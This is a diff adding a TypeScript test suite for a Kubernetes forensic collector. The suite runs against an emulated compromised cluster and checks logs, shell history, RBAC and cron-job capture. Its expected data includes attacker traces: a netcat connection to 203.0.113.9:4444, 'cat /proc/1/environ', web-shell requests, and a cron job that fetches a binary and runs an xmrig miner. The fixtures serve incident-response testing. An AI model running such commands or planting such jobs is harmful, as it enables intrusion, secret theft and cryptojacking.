@@ -1,0 +1,287 @@
+// Every collector through the real client against the Kubernetes API emulator running a small
+// compromised cluster (fixtures/small.yaml), plus the failure modes a responder must see
+// reported rather than hidden: 403 with per-namespace fallback, exec forbidden, distroless.
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { mkdtemp } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { startKubeEmulator, type KubeEmulator } from '../../emulators/kube/index.js';
+import { connectCluster } from '../../../src/core/cluster/connect.js';
+import type { ClusterApi } from '../../../src/core/cluster/api.js';
+import { COLLECTORS, createObjectCache } from '../../../src/core/collectors/index.js';
+import type { CollectOptions, CollectorEvent, Gap } from '../../../src/core/collectors/types.js';
+import type { ArtifactId } from '../../../src/core/schema/artifacts.js';
+import { TABLES, type RowByTable, type TableName } from '../../../src/core/schema/tables.js';
+import { resolveOptions, takeSnapshot } from '../../../src/core/snapshot.js';
+import { verifyBundle } from '../../../src/core/evidence/verify.js';
+
+const FIXTURE = new URL('./fixtures/small.yaml', import.meta.url).pathname;
+const NORMALIZED = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{7}Z$/;
+
+let emu: KubeEmulator;
+let api: ClusterApi;
+let kubeconfig: string;
+const signal = new AbortController().signal;
+const silent = { info: () => undefined, warn: () => undefined, error: () => undefined };
+
+before(async () => {
+  emu = await startKubeEmulator({ scenario: FIXTURE });
+  kubeconfig = join(await mkdtemp(join(tmpdir(), 'kfs-coll-')), 'kubeconfig.yaml');
+  await emu.writeKubeconfig(kubeconfig);
+  api = (await connectCluster({ kubeconfig, signal })).api;
+});
+
+after(async () => {
+  await emu?.close();
+});
+
+interface Run {
+  rows: Map<TableName, Record<string, unknown>[]>;
+  gaps: Gap[];
+  progress: { done: number; total: number }[];
+}
+
+async function run(artifact: ArtifactId, opts: Partial<CollectOptions> = {}): Promise<Run> {
+  const options = resolveOptions({ excludeNamespaces: ['ignored'], concurrency: 4, ...opts });
+  const objects = createObjectCache(api, options);
+  const out: Run = { rows: new Map(), gaps: [], progress: [] };
+  for await (const ev of COLLECTORS[artifact].collect({ cluster: api, objects, options, signal, log: silent }) as AsyncIterable<CollectorEvent>) {
+    if (ev.kind === 'row') {
+      const table = TABLES.find((t) => t.name === ev.table)!;
+      // Every row carries exactly its table's columns (minus the ones the writer stamps).
+      const expected = table.columns.map((c) => c.name).filter((c) => !['TimeGenerated', 'RecordId', 'SnapshotId', 'Cluster'].includes(c));
+      assert.deepEqual(Object.keys(ev.row).sort(), [...expected].sort(), `columns of ${ev.table}`);
+      const r = ev.row as Record<string, unknown>;
+      if (r.EventTime !== null) assert.match(String(r.EventTime), NORMALIZED);
+      assert.ok(!String(r.Summary).includes('\n'), 'Summary is one line');
+      if (!out.rows.has(ev.table)) out.rows.set(ev.table, []);
+      out.rows.get(ev.table)!.push(r);
+    } else if (ev.kind === 'gap') out.gaps.push(ev.gap);
+    else out.progress.push({ done: ev.done, total: ev.total });
+  }
+  return out;
+}
+
+function rowsOf<T extends TableName>(r: Run, table: T): RowByTable[T][] {
+  return (r.rows.get(table) ?? []) as unknown as RowByTable[T][];
+}
+
+test('events: core/v1 and events.k8s.io/v1 de-duplicated, excluded namespaces left out', async () => {
+  const r = await run('events');
+  const rows = rowsOf(r, 'kubeevents_CL');
+  assert.equal(rows.length, 1, 'the mirrored events.k8s.io/v1 copy is not a second row; the ignored namespace is excluded');
+  const e = rows[0]!;
+  assert.equal(e.Reason, 'Killing');
+  assert.equal(e.ApiSource, 'core/v1');
+  assert.equal(e.PodName, 'web-7d4b9');
+  assert.equal(e.ContainerName, 'nginx');
+  assert.equal(e.K8sEventType, 'Warning');
+  assert.equal(e.EventType, 'K8sEvent');
+  assert.deepEqual(r.gaps, []);
+});
+
+test('pod inventory: images with digests, owner, security spec, and lifecycle rows for the timeline', async () => {
+  const r = await run('podInventory');
+  const rows = rowsOf(r, 'podinventory_CL');
+  const web = rows.find((x) => x.PodName === 'web-7d4b9' && x.EventType === 'PodCreated')!;
+  assert.equal(web.OwnerKind, 'ReplicaSet');
+  assert.equal(web.ServiceAccountName, 'web');
+  assert.equal(web.NodeName, 'aks-nodepool1-0');
+  const containers = web.Containers as { name: string; kind: string; imageID: string }[];
+  assert.deepEqual(
+    containers.map((c) => [c.name, c.kind, c.imageID]),
+    [
+      ['init-config', 'init', 'docker.io/library/busybox@sha256:1111'],
+      ['nginx', 'container', 'docker.io/library/nginx@sha256:2222'],
+      ['sidecar', 'container', 'docker.io/fluent/fluent-bit@sha256:3333'],
+      ['debugger', 'ephemeral', 'docker.io/library/busybox@sha256:1111'],
+    ],
+  );
+  assert.deepEqual((web.PodSecurity as { hostPathVolumes: unknown[] }).hostPathVolumes, [{ name: 'host', path: '/', type: 'Directory' }]);
+  const last = rows.find((x) => x.EventType === 'ContainerLastTerminated')!;
+  assert.deepEqual([last.ContainerName, last.ExitCode, last.Reason, last.RestartCount], ['nginx', 137, 'OOMKilled', 1]);
+  const types = new Set(rows.filter((x) => x.PodName === 'web-7d4b9').map((x) => x.EventType));
+  for (const t of ['PodCreated', 'PodScheduled', 'ContainerStarted', 'ContainerTerminated', 'ContainerLastTerminated']) assert.ok(types.has(t), t);
+  assert.ok(!rows.some((x) => x.Namespace === 'ignored'));
+  assert.ok(rows.some((x) => x.Namespace === 'kube-system'), 'kube-system is collected by default');
+});
+
+test('container logs: current and previous, init and ephemeral, a 1.5 MB line, non-UTF-8 bytes, progress', async () => {
+  const r = await run('containerLogs');
+  const rows = rowsOf(r, 'kubelogs_CL');
+  const nginx = rows.filter((x) => x.PodName === 'web-7d4b9' && x.ContainerName === 'nginx');
+  assert.deepEqual(
+    nginx.filter((x) => x.Previous).map((x) => x.Message),
+    ['started', 'POST /upload.php 200 (shell.php written)', 'out of memory'],
+  );
+  assert.deepEqual(nginx.filter((x) => !x.Previous).map((x) => [x.LineNumber, x.Message]), [
+    [1, 'GET /healthz 200'],
+    [2, 'GET /upload.php?cmd=id 200'],
+  ]);
+  assert.ok(nginx.every((x) => x.TimestampParsed && x.Image === 'nginx:1.25' && x.NodeName === 'aks-nodepool1-0'));
+  assert.equal(rows.find((x) => x.ContainerName === 'init-config')?.ContainerKind, 'init');
+  assert.equal(rows.find((x) => x.ContainerName === 'debugger')?.ContainerKind, 'ephemeral');
+  const agent = rows.filter((x) => x.PodName === 'agent');
+  assert.equal(agent.length, 3);
+  assert.equal(String(agent[0]!.Message).length, 1_500_000, 'the 1.5 MB line is whole in Message');
+  assert.ok(agent[0]!.Summary.length <= 200, 'and cut in Summary only');
+  assert.equal(agent[1]!.NonUtf8, true);
+  assert.equal(agent[1]!.Message, 'bad bytes: \\xFF\\xFE end');
+  assert.equal(agent[2]!.Message, 'after the big ones');
+  assert.ok(!rows.some((x) => x.Namespace === 'ignored'));
+  assert.deepEqual(r.gaps, [], 'a missing previous log is not a gap');
+  const lastProgress = r.progress.at(-1)!;
+  assert.equal(lastProgress.done, lastProgress.total);
+  assert.equal(lastProgress.total, 7, 'every container (init, regular, ephemeral) of the four collected pods');
+});
+
+test('command history: real times from bash, zsh and fish; distroless and no-cat are status rows and gaps', async () => {
+  const r = await run('commandHistory');
+  const rows = rowsOf(r, 'commandhistory_CL');
+  const cmds = rows.filter((x) => x.EventType === 'HistoryCommand');
+  const curl = cmds.find((x) => String(x.Command).startsWith('curl'))!;
+  assert.equal(curl.TimeSource, 'bash-timestamp');
+  assert.equal(curl.User, 'root');
+  assert.equal(curl.HistoryFile, '/root/.bash_history');
+  assert.equal(curl.Shell, 'bash');
+  assert.match(String(curl.FileModifiedTime), NORMALIZED);
+  const ls = cmds.find((x) => x.Command === 'ls -la')!;
+  assert.equal(ls.TimeSource, 'file-mtime');
+  assert.equal(ls.EventTime, ls.FileModifiedTime);
+  assert.equal(cmds.find((x) => x.Shell === 'zsh')?.User, 'alice');
+  assert.equal(cmds.find((x) => x.Shell === 'zsh')?.TimeSource, 'zsh-extended');
+  assert.equal(cmds.find((x) => x.Shell === 'fish')?.Command, 'nc 203.0.113.9 4444');
+  assert.equal(cmds.find((x) => x.Shell === 'fish')?.TimeSource, 'fish-when');
+  assert.ok(cmds.some((x) => x.ContainerName === 'debugger' && x.Command === 'cat /proc/1/environ'), 'ephemeral debug containers are read too');
+  const status = (pod: string) => rows.find((x) => x.EventType === 'HistoryStatus' && x.PodName === pod)!;
+  assert.equal(status('static-api').CollectionStatus, 'distroless');
+  assert.equal(status('nocat').CollectionStatus, 'no-cat');
+  assert.equal(rows.find((x) => x.EventType === 'HistoryStatus' && x.ContainerName === 'nginx')?.CollectionStatus, 'ok');
+  assert.equal(status('agent').CollectionStatus, 'not-found');
+  assert.deepEqual(r.gaps.map((g) => [g.scope, g.status]).sort(), [
+    ['exec into prod/nocat/tool', 'skipped'],
+    ['exec into prod/static-api/api', 'skipped'],
+  ]);
+});
+
+test('command history: a file over the bound keeps its newest bytes and is marked truncated', async () => {
+  const r = await run('commandHistory', { historyMaxBytes: 40 });
+  const rows = rowsOf(r, 'commandhistory_CL').filter((x) => x.HistoryFile === '/root/.bash_history' && x.ContainerName === 'nginx');
+  const cmds = rows.filter((x) => x.EventType === 'HistoryCommand');
+  assert.ok(cmds.length > 0 && cmds.every((x) => x.CollectionStatus === 'truncated'));
+  assert.equal(cmds.at(-1)!.Command, 'ls -la', 'the end of the file (newest commands) is what was read');
+  assert.ok(!cmds.some((x) => String(x.Command).startsWith('curl')));
+  assert.ok(r.gaps.some((g) => g.status === 'partial' && g.scope.startsWith('/root/.bash_history in prod/web-7d4b9/nginx')));
+});
+
+test('command history: exec forbidden by RBAC and exec switched off are reported, never fatal', async () => {
+  const remove = emu.faults.forbidExec({ namespaces: ['prod'] });
+  try {
+    const r = await run('commandHistory');
+    const rows = rowsOf(r, 'commandhistory_CL');
+    const prodStatus = rows.filter((x) => x.Namespace === 'prod' && x.EventType === 'HistoryStatus');
+    assert.ok(prodStatus.length >= 5 && prodStatus.every((x) => x.CollectionStatus === 'exec-forbidden'));
+    assert.ok(r.gaps.filter((g) => g.status === 'forbidden').length >= 5);
+    assert.equal(rows.find((x) => x.PodName === 'agent' && x.EventType === 'HistoryStatus')?.CollectionStatus, 'not-found', 'other namespaces still collected');
+  } finally {
+    remove();
+  }
+  const off = await run('commandHistory', { execEnabled: false });
+  assert.equal(off.rows.size, 0);
+  assert.deepEqual(off.gaps.map((g) => g.status), ['skipped']);
+});
+
+test('service accounts, RBAC, cron jobs and network policies', async () => {
+  const sa = rowsOf(await run('serviceAccounts'), 'serviceaccounts_CL');
+  const web = sa.find((x) => x.ServiceAccountName === 'web')!;
+  assert.equal(web.AutomountToken, 'false');
+  assert.deepEqual(web.SecretNames, ['web-token-abc']);
+  assert.deepEqual(web.ImagePullSecretNames, ['acr-pull']);
+  assert.equal(web.WorkloadIdentityClientId, '11111111-2222-3333-4444-555555555555');
+  assert.equal(sa.find((x) => x.ServiceAccountName === 'default')?.AutomountToken, 'unset');
+
+  const rbac = await run('rbac');
+  const bindings = rowsOf(rbac, 'rbacbindings_CL');
+  const crb = bindings.filter((x) => x.BindingName === 'default-admin');
+  assert.deepEqual(
+    crb.map((x) => [x.BindingKind, x.EventType, x.SubjectKind, x.SubjectName, x.SubjectNamespace]),
+    [
+      ['ClusterRoleBinding', 'ClusterRoleBinding', 'ServiceAccount', 'default', 'prod'],
+      ['ClusterRoleBinding', 'ClusterRoleBinding', 'Group', 'system:masters', ''],
+    ],
+  );
+  assert.equal(bindings.find((x) => x.BindingName === 'read-pods')?.BindingKind, 'RoleBinding');
+  const roles = rowsOf(rbac, 'rbacroles_CL');
+  assert.deepEqual(roles.find((x) => x.RoleName === 'cluster-admin')?.Rules, [
+    { apiGroups: ['*'], resources: ['*'], verbs: ['*'] },
+    { nonResourceURLs: ['*'], verbs: ['*'] },
+  ]);
+  assert.equal(roles.find((x) => x.RoleName === 'pod-reader')?.RoleKind, 'Role');
+
+  const cj = rowsOf(await run('cronJobs'), 'cronjobs_CL');
+  assert.deepEqual(
+    cj.map((x) => [x.ContainerKind, x.ContainerName, x.Image, x.Command, x.Args]),
+    [
+      ['init', 'fetch', 'alpine:3.19', ['wget'], ['-O', '/w/x', 'http://203.0.113.9/x']],
+      ['container', 'sync', 'xmrig/xmrig:6.21', ['/w/x'], ['-o', 'pool.example:3333']],
+    ],
+  );
+  assert.equal(cj[0]!.Schedule, '*/5 * * * *');
+  assert.equal(cj[0]!.Suspend, false);
+  assert.match(String(cj[0]!.LastScheduleTime), NORMALIZED);
+  assert.match(String(cj[0]!.LastSuccessfulTime), NORMALIZED);
+
+  const np = rowsOf(await run('networkPolicies'), 'networkpolicies_CL');
+  assert.equal(np.length, 1);
+  assert.deepEqual(np[0]!.PolicyTypes, ['Ingress', 'Egress']);
+  assert.deepEqual(np[0]!.Egress, [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }]);
+  assert.deepEqual(np[0]!.PodSelector, { matchLabels: { app: 'web' } });
+});
+
+test('a 403 on a cluster-wide list falls back to per-namespace lists; namespaces still refused become gaps', async () => {
+  const removeCluster = emu.faults.forbid('serviceaccounts', { scope: 'cluster' });
+  const removeNs = emu.faults.forbid('serviceaccounts', { namespaces: ['kube-system'] });
+  try {
+    const r = await run('serviceAccounts');
+    assert.deepEqual(rowsOf(r, 'serviceaccounts_CL').map((x) => x.ServiceAccountName).sort(), ['default', 'web']);
+    assert.deepEqual(
+      r.gaps.map((g) => [g.artifact, g.scope, g.status]),
+      [['serviceAccounts', 'serviceaccounts in namespace kube-system', 'forbidden']],
+    );
+    assert.match(r.gaps[0]!.message, /403 Forbidden/);
+    // When namespaces cannot be listed either, the whole kind is one forbidden gap.
+    const removeNamespaces = emu.faults.forbid('namespaces');
+    try {
+      const r2 = await run('serviceAccounts');
+      assert.equal(rowsOf(r2, 'serviceaccounts_CL').length, 0);
+      assert.deepEqual(r2.gaps.map((g) => [g.scope, g.status]), [['serviceaccounts (all namespaces)', 'forbidden']]);
+      assert.match(r2.gaps[0]!.message, /no per-namespace fallback/);
+    } finally {
+      removeNamespaces();
+    }
+  } finally {
+    removeCluster();
+    removeNs();
+  }
+});
+
+test('a full snapshot through the real collectors: every table filled, forbidden artifact marked, bundle verifies', async () => {
+  const remove = emu.faults.forbid('networkpolicies', { group: 'networking.k8s.io' });
+  try {
+    const out = await mkdtemp(join(tmpdir(), 'kfs-coll-snap-'));
+    const { manifest, bundleDir } = await takeSnapshot({ kubeconfig, outDir: out, options: { excludeNamespaces: ['ignored'] } }, { signal });
+    assert.equal(manifest.artifacts.networkPolicies?.status, 'forbidden');
+    for (const id of ['events', 'podInventory', 'containerLogs', 'serviceAccounts', 'rbac', 'cronJobs'] as const) {
+      assert.equal(manifest.artifacts[id]?.status, 'ok', id);
+    }
+    assert.equal(manifest.artifacts.commandHistory?.status, 'partial', 'distroless and no-cat containers are gaps');
+    for (const t of ['kubeevents_CL', 'podinventory_CL', 'kubelogs_CL', 'commandhistory_CL', 'serviceaccounts_CL', 'rbacbindings_CL', 'rbacroles_CL', 'cronjobs_CL'] as const) {
+      assert.ok((manifest.tables[t]?.records ?? 0) > 0, t);
+    }
+    assert.equal(manifest.cluster.identity, emu.scenario.auth.username);
+    assert.equal((await verifyBundle(bundleDir)).ok, true);
+  } finally {
+    remove();
+  }
+});
